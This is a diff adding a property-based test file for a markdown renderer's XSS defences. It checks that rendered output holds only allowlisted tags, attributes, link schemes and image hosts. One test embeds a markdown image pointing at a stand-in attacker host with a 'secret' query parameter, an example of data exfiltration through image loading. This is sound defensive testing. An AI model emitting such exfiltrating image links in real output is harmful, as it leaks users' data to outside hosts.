@@ -1,0 +1,81 @@
+// @vitest-environment happy-dom
+import fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import payloads from '../../fixtures/markdown/xss.json' with { type: 'json' }
+import { createView, drawWhole } from './support.ts'
+
+/** Everything the view ever makes: a tag or an attribute that is not here is a hole. */
+const TAGS = new Set(
+  'A BLOCKQUOTE BR BUTTON CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR IMG INPUT LI OL P PRE SECTION SPAN STRONG SUP TABLE TD TH THEAD TR UL'.split(
+    ' ',
+  ),
+)
+const ATTRIBUTES = new Set(
+  'alt aria-label checked class data-loose decoding dir disabled href loading referrerpolicy rel role src start tabindex target title type'.split(
+    ' ',
+  ),
+)
+const CLASS = /^md(?:-[a-z-]+)?$/
+
+function holesIn(root: Element): string[] {
+  return [...root.querySelectorAll('*')].flatMap((element) => {
+    const holes = TAGS.has(element.tagName) ? [] : [element.tagName]
+    for (const { name, value } of element.attributes) {
+      if (!ATTRIBUTES.has(name)) holes.push(`${element.tagName} ${name}`)
+      if (name === 'class' && !CLASS.test(value)) holes.push(`class ${value}`)
+      if (name === 'type' && !['button', 'checkbox'].includes(value)) holes.push(`type ${value}`)
+      if (name === 'href' && !/^(?:https?|mailto|tel):/.test(value)) holes.push(`href ${value}`)
+      if (name === 'src' && new URL(value).host !== 'files.example') holes.push(`src ${value}`)
+    }
+    if (element.tagName === 'A' && element.getAttribute('rel') !== 'noopener noreferrer nofollow ugc') holes.push('rel')
+    return holes
+  })
+}
+
+describe('an answer that means harm', () => {
+  it('has a corpus worth the name', () => {
+    expect(new Set(payloads).size).toBeGreaterThanOrEqual(300)
+  })
+
+  it.each(payloads)('is text and safe links, however it is cut: %j', (payload) => {
+    fc.assert(
+      fc.property(
+        fc.array(fc.nat(payload.length), { maxLength: 8 }),
+        fc.constantFrom('', '# T\n\n', '- a\n- '),
+        (cuts, before) => {
+          const view = createView()
+          const text = before + payload
+          for (const cut of cuts.sort((a, b) => a - b)) {
+            view.update(text.slice(0, before.length + cut), 1, false)
+            expect(holesIn(view.element)).toEqual([])
+          }
+          view.update(text, 1, true)
+          expect(holesIn(view.element)).toEqual([])
+        },
+      ),
+      { numRuns: 8 },
+    )
+  })
+
+  it('keeps its pictures waiting: a host that is not allowed is asked only after a click', () => {
+    const { element } = drawWhole('![chart](https://evil.example/p.png?q=secret) ![ok](https://files.example/a.png)')
+    document.body.append(element)
+    expect([...element.querySelectorAll('img')].map((image) => image.src)).toEqual(['https://files.example/a.png'])
+    const button = element.querySelector('button')
+    expect(button?.textContent).toBe('Show image from evil.example')
+    button?.click()
+    const image = element.querySelector('img')
+    expect([image?.src, image?.referrerPolicy, image?.alt]).toEqual([
+      'https://evil.example/p.png?q=secret',
+      'no-referrer',
+      'chart',
+    ])
+  })
+
+  it('never makes a link within a link', () => {
+    const { element } = drawWhole(
+      '[https://a.example [r] [^n]](https://b.example)\n\n[r]: https://c.example\n[^n]: note',
+    )
+    expect([...element.querySelectorAll('a')].filter((link) => link.querySelector('a, button'))).toEqual([])
+  })
+})
